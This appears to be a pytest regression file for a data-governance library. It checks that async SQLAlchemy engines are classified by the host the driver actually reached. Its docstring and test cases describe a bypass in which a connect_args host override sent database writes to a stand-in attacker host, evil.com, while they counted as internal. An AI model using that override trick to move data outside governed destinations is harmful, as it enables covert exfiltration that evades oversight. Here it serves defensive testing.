"""Where a governed engine's connection goes, for drivers other than psycopg's synchronous
connection: SQLAlchemy's asyncpg and psycopg async adapters hold the driver's connection
(``driver_connection``), so the engine was judged by its URL alone
(``create_async_engine("postgresql+asyncpg://etl@localhost/db", connect_args={"host":
"evil.com"})`` wrote into evil.com as an internal database). The host asyncpg connected to
(``_addr``) and psycopg's (``info.host``) are read through the adapter now."""

from __future__ import annotations

from types import SimpleNamespace

import pytest

import loops
from lacuna.config import DestinationConfig
from lacuna.destinations import classify_destination
from lacuna.model import Scope
from lacuna.sql.hook import _connected, with_connected_hosts

URL = "postgresql+asyncpg://etl@localhost/db"
CONFIG = DestinationConfig(internal_hosts=("*.corp.example",))


def _adapter(driver: object) -> SimpleNamespace:
    """A stand-in for SQLAlchemy's adapter (``AdaptedConnection``): only the loopback cluster
    runs here, so a connection to another host cannot be made for real (the attribute path
    is checked on the real adapters below)."""
    return SimpleNamespace(driver_connection=driver)


@pytest.mark.parametrize(("driver", "scope"), [
    (SimpleNamespace(_addr=("evil.com", 5432)), Scope.EXTERNAL),  # asyncpg
    (SimpleNamespace(info=SimpleNamespace(host="evil.com", hostaddr="")), Scope.EXTERNAL),
    (SimpleNamespace(_addr=("db1.corp.example", 5432)), Scope.INTERNAL),
    (SimpleNamespace(_addr=("127.0.0.1", 5432)), Scope.INTERNAL),
    (SimpleNamespace(_addr="/run/postgresql/.s.PGSQL.5432"), Scope.INTERNAL),  # a socket
    (SimpleNamespace(), Scope.INTERNAL),  # a driver that says nothing: the URL stands
])
def test_the_host_an_adapted_connection_went_to_decides(monkeypatch, driver, scope):
    for name in ("PGHOST", "PGHOSTADDR", "PGSERVICE"):
        monkeypatch.delenv(name, raising=False)
    url = with_connected_hosts(URL, _adapter(driver))
    decided = classify_destination(url, CONFIG)
    assert decided.scope is scope, decided.reasoning
    assert (url == URL) is (scope is Scope.INTERNAL and "corp" not in url)


def test_the_real_adapters_say_where_they_went(pg):
    from sqlalchemy.ext.asyncio import create_async_engine

    async def main(url: str) -> list[tuple[str, str]]:
        engine = create_async_engine(url)
        try:
            async with engine.connect() as conn:
                return _connected((await conn.get_raw_connection()).dbapi_connection)
        finally:
            await engine.dispose()

    for driver in ("asyncpg", "psycopg_async"):
        url = pg.replace("postgresql+psycopg://", f"postgresql+{driver}://")
        assert ("host", "127.0.0.1") in loops.run(main(url)), driver
